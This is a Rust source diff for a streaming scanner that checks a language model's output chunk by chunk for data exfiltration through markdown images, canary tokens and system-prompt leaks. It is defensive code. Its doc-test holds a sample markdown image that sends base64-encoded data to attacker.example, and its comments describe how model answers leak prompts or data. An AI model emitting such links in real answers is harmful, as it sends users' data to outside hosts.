@@ -1,0 +1,1053 @@
+//! Streamed output scanning: [`OutputStream`] takes a model's answer chunk by chunk,
+//! returns the text that is already certain to be safe (redacted as [`Guard::redact`]
+//! would), holds back only what a pending match may still need, and ends with the same
+//! findings a one-shot [`Guard::scan_output`] of the whole text reports.
+//!
+//! # Design
+//!
+//! The stream keeps the unreleased tail of the text plus a little context before it, never
+//! the whole answer. Two positions move forward:
+//! - *committed*: every finding that starts before it has been decided (added to the
+//!   report, its action applied);
+//! - *released*: text before it has been handed to the caller. It trails committed only
+//!   where a redaction replacement could still merge with a finding not decided yet, and
+//!   stops for good at the first blocking finding.
+//!
+//! When the text has grown by one step since the last scan, the stream scans a slice
+//! from a little before committed (`left` context, moved back to a paragraph start) to
+//! the end of the text, with every rule and detector, and decides the findings that start
+//! before the new committed point: `end - hold`, or earlier where a match may still be
+//! pending (below). Slices overlap by the context and the hold-back only, so with
+//! `step >= hold` the bytes scanned are about `(left + hold + step) / step` times the
+//! stream (about 2x with the default policy), whatever the chunk size: pushing 16 bytes
+//! costs an append and a comparison, not a scan. Memory is the slice (context + hold +
+//! step, plus at most `exfiltration::OPEN_CAP` of an unfinished markdown construct), the
+//! report's findings and the per-prompt state below.
+//!
+//! Why the findings equal a one-shot scan's, by detector:
+//! - *Rules*: a keyword-gated regex runs within `window` bytes of its keyword and every
+//!   match contains a keyword, so a match and the context words it reads lie within a
+//!   rule's reach of its keyword (`RuleReach`, computed from the rule specs: how far
+//!   before the keyword a match can start, 0 when the regex's literal prefixes all begin
+//!   with a keyword, and how far after it the window and context end). The stream holds
+//!   back, for keywords not seen yet, the longest keyword plus that lead, and for every
+//!   keyword hit whose reach goes past the text so far, from its lead on. So the
+//!   private-key rules' 9 KB windows hold text only after a `-----BEGIN`, instead of
+//!   `2 * RuleSet::max_window()` everywhere. Rules on the normalised view and rules
+//!   without keywords hold their whole reach (an unbounded regex counts as
+//!   `UNGATED_CAP` bytes). The `left` context covers context words before a match.
+//! - *Detectors with a finite `Detector::max_window()`* (the canary matcher, whose
+//!   matches are capped at `canary::MAX_SPAN` bytes in one-shot scans too): `hold`
+//!   also covers the largest of their windows.
+//! - *Exfiltration*: markdown is not local, so the stream does what a renderer does.
+//!   Slices start at a paragraph start (a line after a blank line, not indented), where
+//!   the CommonMark block state is known: if that point is inside a fenced code block or
+//!   an HTML block (learned from parsing the previous slice), that block's first line is
+//!   put in front as context. Reference definitions and unresolved reference uses are
+//!   remembered across slices, and a reference image is reported where its use/definition
+//!   pair completes, which is the same place in both modes. Committing stops before
+//!   anything that may still be unfinished (an unclosed `[`, `](`, `<tag`, code span, or
+//!   the last word, which may be a growing URL), up to `OPEN_CAP` bytes.
+//! - *Prompt leak*: the shingle coverage is a property of the whole answer, so instead of
+//!   holding text back the stream feeds every chunk to a `LeakTracker` (memory bounded by
+//!   the prompt), the same incremental reader the one-shot detector uses, and adds its
+//!   finding at the end. As coverage only grows, the stream stops releasing as soon as
+//!   the coverage crosses the threshold, and `report()` shows the finding so far.
+//! - *Detectors that need the whole text* (`max_window() == usize::MAX`, e.g. a
+//!   classifier that does not window): the stream keeps the whole text for them only and
+//!   runs them at `finish()`; their findings can then only stop the tail.
+//!
+//! The exactness above assumes what the limits say: no rule match longer than its
+//! window, no markdown construct, code span or bare URL longer than `OPEN_CAP`, no
+//! paragraph-less run (a single paragraph, list or table without a blank line) longer than
+//! `ALIGN_LIMIT` that opens a code span before a slice start and closes it after; past
+//! those the stream decides with what it has, which can differ from the one-shot scan.
+//! The three built-in output detectors are recognised by their names (`exfiltration`,
+//! `canary`, `prompt_leak`): a detector of your own should not use those names.
+
+use std::fmt;
+use std::sync::OnceLock;
+
+use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
+use regex_syntax::hir::literal::{ExtractKind, Extractor};
+use vallum_rules::{Direction as RuleDirection, RuleSpec, ViewKind, builtin_packs};
+
+use crate::detectors::canary::{self, CanaryMatcher};
+use crate::detectors::exfiltration::{self, Exfiltration, PromptInfo, RefState};
+use crate::detectors::prompt_leak::{self, LeakModel, LeakTracker};
+use crate::engine::floor_boundary;
+use crate::guard::redactable;
+use crate::{Action, Detector, Finding, Guard, Policy, Report, ScanError, Span, normalize};
+
+/// Bytes of slack around a rule's reach: word boundaries and look-around characters.
+const RULE_SLACK: usize = 16;
+
+/// Smallest step between two scans.
+const MIN_STEP: usize = 1024;
+
+/// The length assumed for matches of rules without keywords whose regex has no bound.
+const UNGATED_CAP: usize = 256;
+
+/// How far back from its target a slice start may move to reach a paragraph start.
+const ALIGN_LIMIT: usize = 4096;
+
+/// Longest block opener line carried as context into the next slice.
+const MAX_PREFIX: usize = 1024;
+
+/// Incremental scanning of a model's answer; made by [`Guard::output_stream`].
+///
+/// `push` returns the text that is safe to show now (possibly empty), already redacted as
+/// the policy says; `finish` returns the rest. After a blocking finding nothing more is
+/// released (`push` returns `""`) but scanning goes on, so `report()` after `finish` holds
+/// the same findings as [`Guard::scan_output`] of the whole text, with offsets into it.
+///
+/// The stream owns what it needs (a clone of the guard, which is an `Arc`, and the
+/// prompt), so it can be moved across threads and held by the language bindings.
+///
+/// ```
+/// let guard = vallum::Guard::new()?;
+/// let mut stream = guard.output_stream(Some("Summarise the article."));
+/// let mut shown = String::new();
+/// for chunk in ["Here is the summary. ", "![chart](https://attacker.example/c.png?d=", "c2VjcmV0IGRhdGEgaGVyZQ)"] {
+///     shown += &stream.push(chunk)?;
+/// }
+/// shown += &stream.finish()?;
+/// assert!(stream.is_blocked());
+/// assert_eq!(shown, "Here is the summary. ");
+/// assert_eq!(stream.report().findings[0].kind.as_ref(), "markdown_image");
+/// # Ok::<(), Box<dyn std::error::Error>>(())
+/// ```
+pub struct OutputStream {
+    guard: Guard,
+    prompt: Option<String>,
+    /// The text from `base` on.
+    buf: String,
+    base: usize,
+    committed: usize,
+    released: usize,
+    /// Where the next slice starts, and the markdown context put before it.
+    scan_from: usize,
+    prefix: String,
+    /// An incomplete UTF-8 sequence from `push_bytes`.
+    utf8: [u8; 4],
+    utf8_len: usize,
+    findings: Vec<Finding>,
+    /// Decided redactable findings whose text is not released yet.
+    pending_redact: Vec<Finding>,
+    /// The start of the first blocking finding.
+    block_at: Option<usize>,
+    /// Set once a block stopped the release for good.
+    stopped: bool,
+    finished: bool,
+    hold: usize,
+    step: usize,
+    left: usize,
+    /// The stream scans again once it reaches this length.
+    next_scan: usize,
+    reach: RuleReach,
+    /// Keyword hits whose rule may still match: (start, open until, reach before).
+    hits: Vec<(usize, usize, usize)>,
+    /// How far the text was searched for keywords.
+    keywords_done: usize,
+    exfil: Option<ExfilState>,
+    canary: Option<CanaryMatcher>,
+    leak: Option<LeakState>,
+    /// The whole text, only when a detector needs it.
+    whole: Option<String>,
+}
+
+struct ExfilState {
+    detector: Exfiltration,
+    prompt: PromptInfo,
+    refs: RefState,
+}
+
+struct LeakState {
+    tracker: LeakTracker,
+    threshold: f32,
+    /// Distinct shingles seen when last checked.
+    checked: usize,
+    /// The finding so far, with the policy's action.
+    current: Option<Finding>,
+}
+
+fn is_special(name: &str) -> bool {
+    name == exfiltration::NAME || name == canary::NAME || name == prompt_leak::NAME
+}
+
+fn windowed(d: &dyn Detector) -> bool {
+    !is_special(d.name()) && d.max_window() != usize::MAX
+}
+
+fn needs_whole(d: &dyn Detector) -> bool {
+    !is_special(d.name()) && d.max_window() == usize::MAX
+}
+
+impl fmt::Debug for OutputStream {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        f.debug_struct("OutputStream")
+            .field("len", &(self.base + self.buf.len()))
+            .field("committed", &self.committed)
+            .field("released", &self.released)
+            .field("findings", &self.findings.len())
+            .field("blocked", &self.is_blocked())
+            .field("finished", &self.finished)
+            .finish_non_exhaustive()
+    }
+}
+
+impl OutputStream {
+    pub(crate) fn new(guard: Guard, prompt: Option<String>) -> OutputStream {
+        let has = |name: &str| guard.detectors().any(|d| d.name() == name);
+        let policy = guard.policy();
+        let exfil = has(exfiltration::NAME).then(|| ExfilState {
+            detector: Exfiltration::new(policy),
+            prompt: PromptInfo::new(prompt.as_deref()),
+            refs: RefState::default(),
+        });
+        let canary = if has(canary::NAME) {
+            prompt.as_deref().and_then(CanaryMatcher::new)
+        } else {
+            None
+        };
+        let leak = if has(prompt_leak::NAME) {
+            prompt
+                .as_deref()
+                .and_then(LeakModel::new)
+                .map(|model| LeakState {
+                    tracker: LeakTracker::new(model),
+                    threshold: policy.output.leak_threshold,
+                    checked: 0,
+                    current: None,
+                })
+        } else {
+            None
+        };
+        let reach = RuleReach::new(policy);
+        let detector_window = guard
+            .detectors()
+            .filter(|d| windowed(*d))
+            .map(Detector::max_window)
+            .max()
+            .unwrap_or(0);
+        let canary_window = if canary.is_some() {
+            canary::MAX_SPAN
+        } else {
+            0
+        };
+        let hold = reach.fixed.max(detector_window).max(canary_window);
+        let left = reach.left;
+        let step = hold.max(left).max(MIN_STEP);
+        let whole = guard.detectors().any(needs_whole).then(String::new);
+        OutputStream {
+            prompt,
+            buf: String::new(),
+            base: 0,
+            committed: 0,
+            released: 0,
+            scan_from: 0,
+            prefix: String::new(),
+            utf8: [0; 4],
+            utf8_len: 0,
+            findings: Vec::new(),
+            pending_redact: Vec::new(),
+            block_at: None,
+            stopped: false,
+            finished: false,
+            hold,
+            step,
+            left,
+            next_scan: hold + step,
+            reach,
+            hits: Vec::new(),
+            keywords_done: 0,
+            exfil,
+            canary,
+            leak,
+            whole,
+            guard,
+        }
+    }
+
+    /// Adds the next chunk; returns the text that is now safe to show (may be empty).
+    pub fn push(&mut self, chunk: &str) -> Result<String, ScanError> {
+        if self.finished {
+            return Err(ScanError::StreamFinished);
+        }
+        if self.utf8_len > 0 {
+            // A character cut by `push_bytes` cannot be completed by a `&str`.
+            return Err(ScanError::InvalidUtf8 {
+                valid_up_to: self.len(),
+            });
+        }
+        self.append(chunk)?;
+        Ok(self.release())
+    }
+
+    /// Adds the next chunk of UTF-8 bytes; a character split across chunks is completed by
+    /// the next one. Bytes that are not UTF-8 are a [`ScanError::InvalidUtf8`] with the
+    /// offset into the whole stream.
+    pub fn push_bytes(&mut self, bytes: &[u8]) -> Result<String, ScanError> {
+        if self.finished {
+            return Err(ScanError::StreamFinished);
+        }
+        let mut bytes = bytes;
+        if self.utf8_len > 0 {
+            let have = self.utf8_len;
+            let take = (4 - have).min(bytes.len());
+            let mut joined = [0u8; 8];
+            joined[..have].copy_from_slice(&self.utf8[..have]);
+            joined[have..have + take].copy_from_slice(&bytes[..take]);
+            let joined = &joined[..have + take];
+            let valid = match std::str::from_utf8(joined) {
+                Ok(_) => joined.len(),
+                Err(e) if e.valid_up_to() >= have => e.valid_up_to(),
+                Err(e) if e.error_len().is_none() => {
+                    // Still incomplete: every new byte was used.
+                    self.utf8[..joined.len()].copy_from_slice(joined);
+                    self.utf8_len = joined.len();
+                    return Ok(String::new());
+                }
+                Err(_) => {
+                    return Err(ScanError::InvalidUtf8 {
+                        valid_up_to: self.len(),
+                    });
+                }
+            };
+            // The first `valid - have` new bytes complete the pending character.
+            let used = valid - have;
+            self.utf8_len = 0;
+            let ch = std::str::from_utf8(&joined[..valid]).map_err(|_| ScanError::InvalidUtf8 {
+                valid_up_to: self.len(),
+            })?;
+            let ch = ch.to_owned();
+            self.append(&ch)?;
+            bytes = &bytes[used..];
+        }
+        match std::str::from_utf8(bytes) {
+            Ok(s) => self.append(s)?,
+            Err(e) if e.error_len().is_none() => {
+                let (valid, rest) = bytes.split_at(e.valid_up_to());
+                let s = std::str::from_utf8(valid).map_err(|_| ScanError::InvalidUtf8 {
+                    valid_up_to: self.len(),
+                })?;
+                self.append(s)?;
+                self.utf8[..rest.len()].copy_from_slice(rest);
+                self.utf8_len = rest.len();
+            }
+            Err(e) => {
+                return Err(ScanError::InvalidUtf8 {
+                    valid_up_to: self.len() + e.valid_up_to(),
+                });
+            }
+        }
+        Ok(self.release())
+    }
+
+    /// Ends the stream: scans what is left and returns the rest of the safe text. After
+    /// it, `push` and `finish` return [`ScanError::StreamFinished`].
+    pub fn finish(&mut self) -> Result<String, ScanError> {
+        if self.finished {
+            return Err(ScanError::StreamFinished);
+        }
+        self.finished = true;
+        if self.utf8_len > 0 {
+            return Err(ScanError::InvalidUtf8 {
+                valid_up_to: self.len(),
+            });
+        }
+        self.scan(true)?;
+        if let Some(whole) = self.whole.take() {
+            let view = normalize(&whole);
+            let mut found = Vec::new();
+            self.guard.stream_findings(
+                &whole,
+                &view,
+                self.prompt.as_deref(),
+                false,
+                &needs_whole,
+                &mut found,
+            )?;
+            for f in self.guard.finalize(&whole, found) {
+                self.accept(f);
+            }
+        }
+        if let Some(mut leak) = self.leak.take() {
+            leak.tracker.finish();
+            if let Some(f) = leak.tracker.finding(leak.threshold)
+                && let Some(f) = self.finalize_one(f)
+            {
+                self.accept(f);
+            }
+        }
+        Ok(self.release())
+    }
+
+    /// The findings so far (all of them after `finish`), offsets into the whole streamed
+    /// text, with verdict and score.
+    pub fn report(&self) -> Report {
+        let mut all = self.findings.clone();
+        if let Some(f) = self.leak.as_ref().and_then(|l| l.current.clone()) {
+            all.push(f);
+        }
+        sort_findings(&mut all);
+        Report::from_findings(all)
+    }
+
+    /// Whether a blocking finding was seen: nothing more is released.
+    pub fn is_blocked(&self) -> bool {
+        self.block_at.is_some()
+            || self
+                .leak
+                .as_ref()
+                .and_then(|l| l.current.as_ref())
+                .is_some_and(|f| f.action == Action::Block)
+    }
+
+    /// How many bytes were streamed so far.
+    pub fn len(&self) -> usize {
+        self.base + self.buf.len()
+    }
+
+    /// Whether nothing was streamed yet.
+    pub fn is_empty(&self) -> bool {
+        self.len() == 0
+    }
+
+    /// How many bytes the stream holds in memory: the unreleased tail and the context
+    /// before it.
+    pub fn buffered(&self) -> usize {
+        self.buf.len()
+    }
+
+    /// How many bytes were released so far (before redaction).
+    pub fn released(&self) -> usize {
+        self.released
+    }
+
+    fn append(&mut self, chunk: &str) -> Result<(), ScanError> {
+        if chunk.is_empty() {
+            return Ok(());
+        }
+        let size = self.len() + chunk.len();
+        let limit = self.guard.policy().limits.max_input_bytes;
+        if size > limit {
+            return Err(ScanError::InputTooLarge { size, limit });
+        }
+        let at = self.len();
+        self.buf.push_str(chunk);
+        if let Some(whole) = &mut self.whole {
+            whole.push_str(chunk);
+        }
+        if let Some(leak) = &mut self.leak {
+            leak.tracker.feed(chunk, at);
+        }
+        self.check_leak();
+        if self.len() >= self.next_scan {
+            self.scan(false)?;
+        }
+        Ok(())
+    }
+
+    /// Updates the provisional leak finding when the tracker saw new shingles.
+    fn check_leak(&mut self) {
+        let Some(leak) = &mut self.leak else {
+            return;
+        };
+        let distinct = leak.tracker.matched();
+        if distinct == leak.checked {
+            return;
+        }
+        leak.checked = distinct;
+        let Some(f) = leak.tracker.finding(leak.threshold) else {
+            return;
+        };
+        let f = self.finalize_one(f);
+        if let Some(leak) = &mut self.leak {
+            leak.current = f;
+        }
+    }
+
+    /// Applies the policy to one finding whose text may no longer be buffered.
+    fn finalize_one(&self, f: Finding) -> Option<Finding> {
+        let span = f.span;
+        if span.start >= self.base && span.end <= self.len() {
+            let text = &self.buf[span.start - self.base..span.end - self.base];
+            let mut local = f;
+            local.span = Span::new(0, text.len());
+            let mut out = self.guard.finalize(text, vec![local]);
+            let mut f = out.pop()?;
+            f.span = span;
+            return Some(f);
+        }
+        // `finalize` reads the span's text only to compare it with `allow.terms`; a term
+        // of another length can never be equal, so a stand-in of the same length (never
+        // equal to a real term) gives the same decision without the text.
+        let stand_in = if self
+            .guard
+            .policy()
+            .allow
+            .terms
+            .iter()
+            .any(|t| t.len() == span.len() || t.is_empty())
+        {
+            "\u{0}".repeat(span.len())
+        } else {
+            String::from("\u{0}")
+        };
+        let mut local = f;
+        local.span = Span::new(0, stand_in.len().min(span.len().max(1)));
+        let mut out = self.guard.finalize(&stand_in, vec![local]);
+        let mut f = out.pop()?;
+        f.span = span;
+        Some(f)
+    }
+
+    fn accept(&mut self, f: Finding) {
+        if f.action == Action::Block {
+            let at = f.span.start;
+            self.block_at = Some(self.block_at.map_or(at, |b| b.min(at)));
+        }
+        if redactable(&f) {
+            self.pending_redact.push(f.clone());
+        }
+        self.findings.push(f);
+    }
+
+    /// Records the keyword hits in the text that arrived since the last scan and keeps
+    /// those whose rule may still match once more text arrives.
+    fn track_keywords(&mut self) {
+        let end = self.len();
+        if let Some(ac) = &self.reach.keywords {
+            let from = self
+                .keywords_done
+                .saturating_sub(self.reach.longest_keyword.saturating_sub(1))
+                .max(self.base);
+            let hay = &self.buf.as_bytes()[from - self.base..];
+            for m in ac.find_overlapping_iter(hay) {
+                if from + m.end() <= self.keywords_done {
+                    continue;
+                }
+                let k = from + m.start();
+                let (before, after) = self.reach.per_keyword[m.pattern().as_usize()];
+                self.hits.push((k, k + after, before));
+            }
+        }
+        self.keywords_done = end;
+        self.hits.retain(|h| h.1 > end);
+    }
+
+    /// Scans the slice from `scan_from` to the end and decides what it can.
+    fn scan(&mut self, last: bool) -> Result<(), ScanError> {
+        if !last {
+            self.track_keywords();
+        }
+        let s0 = self.scan_from;
+        let end = self.len();
+        let skip = self.prefix.len();
+        let slice = &self.buf[s0 - self.base..];
+        let joined: String;
+        let md_text: &str = if skip == 0 {
+            slice
+        } else {
+            joined = format!("{}{slice}", self.prefix);
+            &joined
+        };
+        let view = normalize(slice);
+        let mut found = Vec::new();
+        self.guard.stream_findings(
+            slice,
+            &view,
+            self.prompt.as_deref(),
+            true,
+            &windowed,
+            &mut found,
+        )?;
+        if let Some(c) = &self.canary {
+            c.find(&view, &mut found);
+        }
+        let mut outcome = None;
+        if let Some(ex) = &self.exfil {
+            let mut ex_found = Vec::new();
+            let out = ex.detector.analyze(
+                md_text,
+                skip,
+                &ex.prompt,
+                self.guard.rules(),
+                &ex.refs,
+                &mut ex_found,
+            );
+            for mut f in ex_found {
+                f.span = Span::new(f.span.start - skip, f.span.end - skip);
+                found.push(f);
+            }
+            outcome = Some(out);
+        }
+        let found = self.guard.finalize(slice, found);
+
+        let committed = if last {
+            end
+        } else {
+            let mut c = end.saturating_sub(self.hold);
+            for &(k, _, before) in &self.hits {
+                c = c.min(k.saturating_sub(before));
+            }
+            if let Some(out) = &outcome
+                && let Some(p) = exfiltration::open_from(md_text, &out.raw_blocks)
+            {
+                let o = s0 + p.saturating_sub(skip);
+                if end - o <= exfiltration::OPEN_CAP {
+                    c = c.min(o);
+                }
+            }
+            floor_boundary(&self.buf, c.max(self.base) - self.base) + self.base
+        }
+        .max(self.committed);
+        let next = if last {
+            None
+        } else {
+            let blocks = outcome.as_ref().map_or(&[][..], |o| &o.raw_blocks[..]);
+            Some(self.plan_next(committed, md_text, skip, blocks))
+        };
+
+        for mut f in found {
+            f.span = Span::new(f.span.start + s0, f.span.end + s0);
+            if f.span.start >= self.committed && (last || f.span.start < committed) {
+                self.accept(f);
+            }
+        }
+        if let (Some(ex), Some(mut out)) = (&mut self.exfil, outcome) {
+            let shift = s0 as isize - skip as isize;
+            ex.refs.absorb(&mut out, committed, shift);
+        }
+        self.committed = committed;
+        self.next_scan = end + self.step.max((end - committed) / 2);
+        if let Some((start, prefix)) = next
+            && start != s0
+        {
+            self.scan_from = start;
+            self.prefix = prefix;
+        }
+        let keep = if self.stopped {
+            self.scan_from
+        } else {
+            self.scan_from.min(self.released)
+        };
+        if keep > self.base {
+            self.buf.drain(..keep - self.base);
+            self.base = keep;
+        }
+        Ok(())
+    }
+
+    /// Where the next slice starts (a paragraph start a little before `committed`) and
+    /// the markdown context to put before it: the first line of the fenced code block or
+    /// HTML block it falls in, learned from this slice's parse (`md_text`, whose first
+    /// `skip` bytes were context).
+    fn plan_next(
+        &self,
+        committed: usize,
+        md_text: &str,
+        skip: usize,
+        blocks: &[(std::ops::Range<usize>, usize)],
+    ) -> (usize, String) {
+        let old = self.scan_from;
+        let target = committed.saturating_sub(self.left).max(old);
+        let target = floor_boundary(&self.buf, target - self.base) + self.base;
+        let floor = old.max(target.saturating_sub(ALIGN_LIMIT));
+        let start = paragraph_start(&self.buf, self.base, target, floor);
+        let mut prefix = String::new();
+        let pos = start - old + skip;
+        if let Some((r, first)) = blocks.iter().find(|(r, _)| r.start < pos && pos < r.end)
+            && *first <= MAX_PREFIX
+        {
+            prefix.push_str(&md_text[r.start..r.start + first]);
+            if !prefix.ends_with('\n') {
+                prefix.push('\n');
+            }
+        }
+        (start, prefix)
+    }
+
+    /// Hands out the text before the point that is decided, redacted; stops at a block.
+    fn release(&mut self) -> String {
+        if self.stopped {
+            return String::new();
+        }
+        if self.is_blocked() && self.block_at.is_none() {
+            // A prompt leak: its extent is still growing, so nothing more goes out.
+            self.stopped = true;
+            return String::new();
+        }
+        let mut upto = self.committed;
+        if let Some(b) = self.block_at {
+            upto = upto.min(b);
+            self.stopped = true;
+        }
+        self.pending_redact
+            .sort_by_key(|f| (f.span.start, std::cmp::Reverse(f.span.end)));
+        let mut group: Option<Span> = None;
+        for f in &self.pending_redact {
+            group = match group {
+                Some(g) if f.span.start < g.end => Some(g.union(f.span)),
+                Some(g) if g.end > upto => break,
+                _ => Some(f.span),
+            };
+        }
+        if let Some(g) = group
+            && g.end > upto
+            && g.start < upto
+        {
+            upto = g.start;
+        }
+        if upto <= self.released {
+            return String::new();
+        }
+        let from = self.released;
+        let text = &self.buf[from - self.base..upto - self.base];
+        let (chosen, rest): (Vec<Finding>, Vec<Finding>) = std::mem::take(&mut self.pending_redact)
+            .into_iter()
+            .partition(|f| f.span.end <= upto);
+        self.pending_redact = rest;
+        let local: Vec<Finding> = chosen
+            .into_iter()
+            .map(|mut f| {
+                f.span = Span::new(f.span.start - from, f.span.end - from);
+                f
+            })
+            .collect();
+        let refs: Vec<&Finding> = local.iter().collect();
+        let out =
+            crate::redact::redact_spans(text, &refs, &self.guard.policy().redaction).into_owned();
+        self.released = upto;
+        out
+    }
+}
+
+/// How far rule matches reach around their keywords, from the rules' specs: what the
+/// stream must hold back for the rules.
+///
+/// A gated rule's regex runs within `window` bytes of a keyword hit and every match
+/// contains a keyword, so a match starts at most `before` bytes ahead of its keyword
+/// (0 when every match begins with a keyword, from the regex's literal prefixes; else the
+/// window, or the regex's longest match when shorter) and, with its context words, ends
+/// at most `after` bytes past the keyword's start. So the stream holds back `before` plus
+/// a keyword's length for keywords not seen yet, and for each keyword hit whose `after`
+/// reaches past the text so far, from `before` ahead of it: a private-key rule with a
+/// 9 KB window holds text only after its `-----BEGIN`, not everywhere. Rules on the
+/// normalised view (whose keywords only the view shows) and rules without keywords get a
+/// fixed hold of their whole reach.
+#[derive(Debug)]
+struct RuleReach {
+    /// Bytes held back whatever the text says.
+    fixed: usize,
+    /// Context a slice needs before the first position it decides.
+    left: usize,
+    /// Keywords of gated raw-view rules (ASCII case-insensitive).
+    keywords: Option<AhoCorasick>,
+    /// Per keyword: (before, after).
+    per_keyword: Vec<(usize, usize)>,
+    longest_keyword: usize,
+}
+
+/// One rule's reach.
+#[derive(Debug, Clone)]
+struct SpecReach {
+    /// Keywords tracked in the text (gated raw-view rules), with (before, after).
+    keywords: Vec<String>,
+    before: usize,
+    after: usize,
+    fixed: usize,
+    left: usize,
+}
+
+impl RuleReach {
+    fn new(policy: &Policy) -> RuleReach {
+        static BUILTIN: OnceLock<Vec<(String, Option<SpecReach>)>> = OnceLock::new();
+        let builtin = BUILTIN.get_or_init(|| {
+            builtin_packs()
+                .iter()
+                .flat_map(|p| p.rules.iter().map(move |r| (p.name.clone(), spec_reach(r))))
+                .collect()
+        });
+        let d = &policy.detectors;
+        let enabled = |pack: &str| match pack {
+            "pii" => d.pii,
+            "secrets" => d.secrets,
+            "injection" => d.injection,
+            "exfiltration" => d.exfiltration,
+            _ => true,
+        };
+        let mut reaches: Vec<SpecReach> = builtin
+            .iter()
+            .filter(|(pack, _)| enabled(pack))
+            .filter_map(|(_, r)| r.clone())
+            .collect();
+        for rule in &policy.custom {
+            let longest = rule.terms.iter().map(String::len).max().unwrap_or(0);
+            if longest > 0 {
+                // A term matches itself (on the normalised view, so not tracked).
+                reaches.push(SpecReach {
+                    keywords: Vec::new(),
+                    before: 0,
+                    after: 0,
+                    fixed: 4 * longest + RULE_SLACK,
+                    left: RULE_SLACK,
+                });
+            }
+            if let Some(p) = &rule.pattern {
+                let len = max_len(p, !rule.case_sensitive).unwrap_or(UNGATED_CAP);
+                reaches.push(SpecReach {
+                    keywords: Vec::new(),
+                    before: 0,
+                    after: 0,
+                    fixed: len + RULE_SLACK,
+                    left: RULE_SLACK,
+                });
+            }
+        }
+        let mut keywords: Vec<String> = Vec::new();
+        let mut per_keyword: Vec<(usize, usize)> = Vec::new();
+        let (mut fixed, mut left) = (RULE_SLACK, RULE_SLACK);
+        for r in &reaches {
+            fixed = fixed.max(r.fixed);
+            left = left.max(r.left);
+            for kw in &r.keywords {
+                let kw = kw.to_ascii_lowercase();
+                if let Some(i) = keywords.iter().position(|k| *k == kw) {
+                    let e = &mut per_keyword[i];
+                    *e = (e.0.max(r.before), e.1.max(r.after));
+                } else {
+                    keywords.push(kw);
+                    per_keyword.push((r.before, r.after));
+                }
+            }
+        }
+        let longest_keyword = keywords.iter().map(String::len).max().unwrap_or(0);
+        let keywords = if keywords.is_empty() {
+            None
+        } else {
+            AhoCorasickBuilder::new()
+                .ascii_case_insensitive(true)
+                .match_kind(MatchKind::Standard)
+                .build(&keywords)
+                .ok()
+        };
+        if keywords.is_none() {
+            // Without the automaton, every tracked rule holds its whole reach.
+            for r in &reaches {
+                fixed = fixed.max(r.before + r.after);
+            }
+        }
+        RuleReach {
+            fixed,
+            left,
+            keywords,
+            per_keyword,
+            longest_keyword,
+        }
+    }
+}
+
+/// The reach of one built-in rule; `None` when it never runs on output.
+fn spec_reach(spec: &RuleSpec) -> Option<SpecReach> {
+    if spec.direction == RuleDirection::Input {
+        return None;
+    }
+    let distance = spec.context.as_ref().map_or(0, |c| c.distance);
+    let longest = max_len(&spec.pattern, spec.case_insensitive);
+    if spec.keywords.is_empty() {
+        return Some(SpecReach {
+            keywords: Vec::new(),
+            before: 0,
+            after: 0,
+            fixed: longest.unwrap_or(UNGATED_CAP) + distance + RULE_SLACK,
+            left: distance + RULE_SLACK,
+        });
+    }
+    let kw_max = spec.keywords.iter().map(String::len).max().unwrap_or(0);
+    let kw_min = spec.keywords.iter().map(String::len).min().unwrap_or(0);
+    let w = spec.window;
+    if spec.view == ViewKind::Normalized {
+        return Some(SpecReach {
+            keywords: Vec::new(),
+            before: 0,
+            after: 0,
+            fixed: 2 * w + kw_max + distance + RULE_SLACK,
+            left: w + distance + RULE_SLACK,
+        });
+    }
+    let before = if starts_with_keyword(&spec.pattern, spec.case_insensitive, &spec.keywords) {
+        0
+    } else {
+        longest.map_or(w, |m| m.saturating_sub(kw_min).min(w))
+    };
+    let after = longest.map_or(kw_max + w, |m| m.min(kw_max + w)) + distance + RULE_SLACK;
+    Some(SpecReach {
+        keywords: spec.keywords.clone(),
+        before: before + RULE_SLACK,
+        after,
+        fixed: before + kw_max + RULE_SLACK,
+        left: distance + RULE_SLACK,
+    })
+}
+
+fn parse(pattern: &str, ci: bool) -> Option<regex_syntax::hir::Hir> {
+    regex_syntax::ParserBuilder::new()
+        .case_insensitive(ci)
+        .multi_line(true)
+        .nest_limit(64)
+        .build()
+        .parse(pattern)
+        .ok()
+}
+
+/// The longest match of a pattern in bytes, if bounded.
+fn max_len(pattern: &str, ci: bool) -> Option<usize> {
+    parse(pattern, ci)?.properties().maximum_len()
+}
+
+/// Whether every match of the pattern begins with one of the keywords.
+fn starts_with_keyword(pattern: &str, ci: bool, keywords: &[String]) -> bool {
+    let Some(hir) = parse(pattern, ci) else {
+        return false;
+    };
+    let mut extractor = Extractor::new();
+    extractor
+        .kind(ExtractKind::Prefix)
+        .limit_class(64)
+        .limit_repeat(64)
+        .limit_literal_len(64)
+        .limit_total(1024);
+    let seq = extractor.extract(&hir);
+    let Some(literals) = seq.literals() else {
+        return false;
+    };
+    !literals.is_empty()
+        && literals.iter().all(|lit| {
+            let b = lit.as_bytes();
+            keywords
+                .iter()
+                .any(|k| b.len() >= k.len() && b[..k.len()].eq_ignore_ascii_case(k.as_bytes()))
+        })
+}
+
+/// The latest paragraph start (a non-indented line after a blank line) in
+/// `[floor, target]`, else the latest line start there, else `target`.
+fn paragraph_start(buf: &str, base: usize, target: usize, floor: usize) -> usize {
+    let b = buf.as_bytes();
+    let lo = floor.max(base) - base;
+    let hi = target - base;
+    let mut line_start = None;
+    let mut end = hi;
+    // Walk line starts backwards from `hi`.
+    while let Some(i) = memchr::memrchr(b'\n', &b[lo..end]) {
+        let start = lo + i + 1;
+        if start <= hi {
+            line_start.get_or_insert(start);
+            let indented = b
+                .get(start)
+                .is_none_or(|c| matches!(c, b' ' | b'\t' | b'\n' | b'\r'));
+            if !indented && start >= 2 {
+                let prev_end = start - 1;
+                let prev_start = memchr::memrchr(b'\n', &b[..prev_end]).map_or(0, |i| i + 1);
+                if prev_start >= lo
+                    && b[prev_start..prev_end]
+                        .iter()
+                        .all(|c| matches!(c, b' ' | b'\t' | b'\r'))
+                {
+                    return start + base;
+                }
+            }
+        }
+        end = start - 1;
+        if end <= lo {
+            break;
+        }
+    }
+    if lo == 0 && base == 0 {
+        return 0;
+    }
+    line_start.map_or(target, |s| s + base)
+}
+
+/// Orders findings as [`Guard::finalize`] does and drops exact duplicates.
+fn sort_findings(findings: &mut Vec<Finding>) {
+    findings.sort_by(|a, b| {
+        (a.span.start, a.span.end, a.category, &a.rule)
+            .cmp(&(b.span.start, b.span.end, b.category, &b.rule))
+            .then(b.score.total_cmp(&a.score))
+    });
